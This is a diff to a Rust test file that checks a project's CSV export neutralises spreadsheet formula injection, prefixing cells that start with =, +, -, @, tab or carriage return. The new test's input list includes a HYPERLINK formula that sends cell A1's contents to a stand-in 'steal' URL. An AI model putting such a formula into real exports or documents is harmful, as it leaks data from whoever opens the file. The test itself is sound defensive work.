@@ -7,7 +7,9 @@ mod common;
 use proptest::prelude::*;
 use service_range_mapper::core::continuum::Network;
 use service_range_mapper::core::defaults::default_config;
-use service_range_mapper::core::export::{csv, html, markdown, report, table_header, table_rows};
+use service_range_mapper::core::export::{
+    csv, html, markdown, report, spreadsheet_safe, table_header, table_rows,
+};
 use service_range_mapper::core::figures::range;
 use service_range_mapper::core::gaps::*;
 use service_range_mapper::core::inventory::{
@@ -118,7 +120,13 @@ proptest! {
             .records()
             .map(|r| r.unwrap().iter().map(String::from).collect())
             .collect();
-        prop_assert_eq!(&rows, &table_rows(&config, &range, &session, lang));
+        // As written, each cell made safe for spreadsheets.
+        let safe: Vec<Vec<String>> = table_rows(&config, &range, &session, lang)
+            .iter()
+            .map(|row| row.iter().map(|cell| spreadsheet_safe(cell).into_owned()).collect())
+            .collect();
+        prop_assert_eq!(&rows, &safe);
+        prop_assert!(rows.iter().flatten().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])));
         // One row per gap, one per service not covered, one per collaboration gap.
         let uncovered = lines(&config, &range, &session)
             .iter()
@@ -414,4 +422,42 @@ fn the_readme_session_example_is_a_session_of_the_default_config() {
     );
     assert_eq!(session.gaps[0].barrier, Some(Barrier::Distance));
     assert_eq!(session.gaps[0].priority(), 12);
+}
+
+#[test]
+fn no_csv_cell_starts_a_formula() {
+    let config = config();
+    let mut session = Session::new(&config);
+    let hostile = [
+        "=HYPERLINK(\"http://example.org/steal?\"&A1, \"Cliquez\")",
+        "+1+2",
+        "-2+3",
+        "@SUM(A1:A3)",
+        "\t=1",
+        "\r=1",
+    ];
+    for (i, text) in hostile.iter().enumerate() {
+        let mut gap = common::gap(&format!("g{}", i + 1), GapTarget::Other);
+        gap.note = text.to_string();
+        gap.population = text.to_string();
+        gap.action = text.to_string();
+        session.gaps.push(gap);
+    }
+    let bytes = csv(&config, &range(&config), &session, Lang::Fr);
+    let mut reader = ::csv::Reader::from_reader(&bytes[3..]);
+    let cells: Vec<String> = reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+        .collect();
+    for text in hostile {
+        assert!(
+            cells.contains(&format!("'{text}")),
+            "{text:?} written as text"
+        );
+    }
+    assert!(cells
+        .iter()
+        .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])));
+    assert_eq!(spreadsheet_safe("Logement"), "Logement");
+    assert_eq!(spreadsheet_safe(""), "");
 }
